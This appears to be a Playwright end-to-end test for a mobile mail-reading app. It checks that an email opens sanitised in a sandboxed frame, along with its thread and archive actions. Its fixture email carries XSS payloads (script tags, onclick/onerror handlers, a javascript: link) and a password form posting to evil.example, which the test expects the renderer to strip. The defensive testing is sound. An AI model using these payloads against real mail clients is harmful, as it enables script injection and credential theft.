import path from "node:path";
import type { Page } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { axeProblems } from "../support/axe.ts";
import { launchChromium } from "../support/browser.ts";
import { cardsForEveryCohort, screenshots, startPwaGmailStack } from "../support/pwa-gmail-stack.ts";
import { eventually } from "./pipeline-harness.ts";

/**
 * Read the message: a card opens the message itself, fetched on demand from the fake Gmail
 * through the agent and the DeviceHub (kept nowhere), rendered sanitised in a sandboxed frame
 * under the site CSP: no scripts, forms or remote images until asked, hidden text shown as
 * removed, links that say where they go; with its actions and the rest of its thread.
 */
let s: Awaited<ReturnType<typeof startPwaGmailStack>>;
let browser: Awaited<ReturnType<typeof launchChromium>>;
let page: Page;
type Delivered = { msgId: string; threadId: string; s: { id: string } };
let reply: Delivered;
let first: Delivered;

const HIDDEN = "HIDDENCANARY42";
const html =
  `<style>p{color:red}</style><script>parent.document.title="pwned"</script>` +
  `<p onclick="parent.document.title='pwned'">Tuesday works for me. The agenda is below.</p>` +
  `<div style="display:none">${HIDDEN}</div>` +
  `<p><img src="https://tracker.example/open.gif" alt="logo"><img src="x" onerror="parent.document.title='pwned'"></p>` +
  `<form action="https://evil.example/steal"><input name="password"><button>Send</button></form>` +
  `<p><a href="https://agenda.example/plan">See the agenda</a> · <a href="javascript:alert(1)">bad</a></p>`;
const mixed = (from: string, subject: string, inReplyTo: string) =>
  `From: ${from}\r\nTo: me@scouts.test\r\nSubject: ${subject}\r\nDate: Tue, 24 Nov 2026 09:00:00 +0000\r\n` +
  `Message-ID: <reply-${Date.now()}@colleague.example>\r\nIn-Reply-To: ${inReplyTo}\r\nMIME-Version: 1.0\r\n` +
  `Content-Type: multipart/alternative; boundary="b1"\r\n\r\n--b1\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n` +
  `Tuesday works for me.\r\n--b1\r\nContent-Type: text/html; charset=utf-8\r\n\r\n${html}\r\n--b1--\r\n`;

beforeAll(async () => {
  s = await startPwaGmailStack("pwa-read");
  await cardsForEveryCohort(s.local);
  first = (
    await s.deliver({
      from: "Ann Colleague <ann@colleague.example>",
      subject: "Planning meeting next week",
      body: "Can we meet on Tuesday to go through the plan?",
    })
  )[0] as Delivered;
  reply = (
    await s.deliver({
      from: "Bo Builder <bo@colleague.example>",
      subject: "Re: Planning meeting next week",
      body: "",
      raw: mixed(
        "Bo Builder <bo@colleague.example>",
        "Re: Planning meeting next week",
        "<ann@colleague.example>",
      ),
      threadId: first.threadId,
    })
  )[0] as Delivered;
  browser = await launchChromium({ viewport: { width: 390, height: 844 }, touch: true });
  page = await browser.context.newPage();
  page.on("console", (m) => m.type() === "error" && console.error(`browser: ${m.text()}`));
  await page.goto(`${s.origin}/#agent=${encodeURIComponent(s.agentUrl)}`);
  await page.locator(`article[data-id="${reply.s.id}"]`).waitFor({ timeout: 30_000 });
}, 300_000);

afterAll(async () => {
  await browser?.close();
  await s?.stop();
});

const frame = () => page.frameLocator("iframe.message-frame");

describe("read the message (phone, touch, site CSP)", () => {
  it("opens the message sanitised in a sandboxed frame, with its thread", async () => {
    const title = await page.title();
    await page
      .locator(`article[data-id="${reply.s.id}"]`)
      .getByRole("link", { name: /^Read / })
      .tap();
    await page.getByRole("heading", { name: "Re: Planning meeting next week" }).waitFor({ timeout: 30_000 });
    const iframe = page.locator("iframe.message-frame");
    const sandbox = (await iframe.getAttribute("sandbox")) ?? "";
    expect(sandbox.split(/\s+/).sort()).toEqual(["allow-popups", "allow-popups-to-escape-sandbox"]);
    await expect.poll(() => frame().locator("body").textContent()).toContain("Tuesday works for me");
    const body = (await frame().locator("body").innerHTML()) ?? "";
    expect(body).not.toContain(HIDDEN);
    expect(body).not.toMatch(/<script|<form|<input|<button|<style|onclick|onerror|javascript:/i);
    expect(await frame().getByText("hidden content removed").count()).toBe(1);
    expect(await frame().locator("img").count()).toBe(0);
    expect(await frame().getByText("[image from tracker.example: logo]").count()).toBe(1);
    const link = frame().getByRole("link", { name: "See the agenda" });
    expect(await link.getAttribute("rel")).toBe("noopener noreferrer");
    expect(await link.getAttribute("target")).toBe("_blank");
    expect(await frame().locator("body").textContent()).toContain("See the agenda (agenda.example)");
    expect(await page.title()).toBe(title);
    await expect
      .poll(() => page.getByRole("note", { name: "What was held back" }).textContent())
      .toMatch(/1 piece of hidden content removed\.1 remote image not loaded/);
    const thread = page.getByRole("list", { name: "Other messages in this conversation" });
    expect(await thread.textContent()).toContain("Can we meet on Tuesday to go through the plan?");
    expect(await thread.textContent()).toContain("Ann Colleague");
    await page.screenshot({ path: path.join(screenshots, "read-message-phone.png"), fullPage: true });
    expect(await axeProblems(page)).toEqual([]);
  });

  it("remote images only after Load images, without a referrer", async () => {
    await page.getByRole("button", { name: "Load images" }).tap();
    const img = frame().locator('img[src="https://tracker.example/open.gif"]');
    await expect.poll(() => img.count()).toBe(1);
    expect(await img.getAttribute("referrerpolicy")).toBe("no-referrer");
    expect(await frame().locator("img").count()).toBe(1);
  });

  it("acts from the reading view: Archive takes it out of the Gmail inbox, Undo puts it back", async () => {
    await page.getByRole("button", { name: "Archive" }).tap();
    await eventually(
      async () => (s.stack.gmail.labelNames(s.stack.email, reply.msgId).includes("INBOX") ? undefined : true),
      20_000,
      "archived in Gmail",
    );
    await page.getByRole("searchbox").or(page.locator("article").first()).first().waitFor();
    const toast = page.getByRole("status", { name: "Last action" });
    await expect.poll(() => toast.textContent(), { timeout: 20_000 }).toMatch(/^Done: archive/);
    await toast.getByRole("button", { name: "Undo" }).tap();
    await eventually(
      async () => (s.stack.gmail.labelNames(s.stack.email, reply.msgId).includes("INBOX") ? true : undefined),
      20_000,
      "back in the Gmail inbox",
    );
  });

  it("an id that is not this person's suggestion opens nothing", async () => {
    await page.goto(`${s.origin}/#agent=${encodeURIComponent(s.agentUrl)}`);
    await page.evaluate(() => {
      history.pushState({}, "", "/read/p-not-mine");
      dispatchEvent(new PopStateEvent("popstate"));
    });
    await expect
      .poll(() => page.getByRole("alert").textContent(), { timeout: 20_000 })
      .toMatch(/no such suggestion|no suggestion p-not-mine/);
    expect(await page.locator("iframe.message-frame").count()).toBe(0);
  });

  it("desktop: the same message at 1280×900", async () => {
    const desk = await launchChromium({ viewport: { width: 1280, height: 900 } });
    try {
      const p = await desk.context.newPage();
      await p.goto(`${s.origin}/#agent=${encodeURIComponent(s.agentUrl)}`);
      await p.locator(`article[data-id="${first.s.id}"]`).waitFor({ timeout: 30_000 });
      await p
        .locator(`article[data-id="${first.s.id}"]`)
        .getByRole("link", { name: /^Read / })
        .click();
      await p
        .frameLocator("iframe.message-frame")
        .getByText("Can we meet on Tuesday")
        .waitFor({ timeout: 30_000 });
      expect(
        await p.getByRole("list", { name: "Other messages in this conversation" }).textContent(),
      ).toContain("Tuesday works for me");
      // The reading view offers the same proposed action as the card.
      const listed = (
        await s.local<{ items: { id: string; proposal?: { why: string } }[] }>("/suggestions?limit=200")
      ).items.find((x) => x.id === first.s.id);
      expect(listed?.proposal).toBeDefined();
      await p.getByRole("button", { name: /^Approve: / }).waitFor();
      expect(await p.locator(".proposal").textContent()).toContain(listed?.proposal?.why ?? "?");
      await p.screenshot({ path: path.join(screenshots, "read-message-desktop.png"), fullPage: true });
      expect(await axeProblems(p)).toEqual([]);
    } finally {
      await desk.close();
    }
  });
});
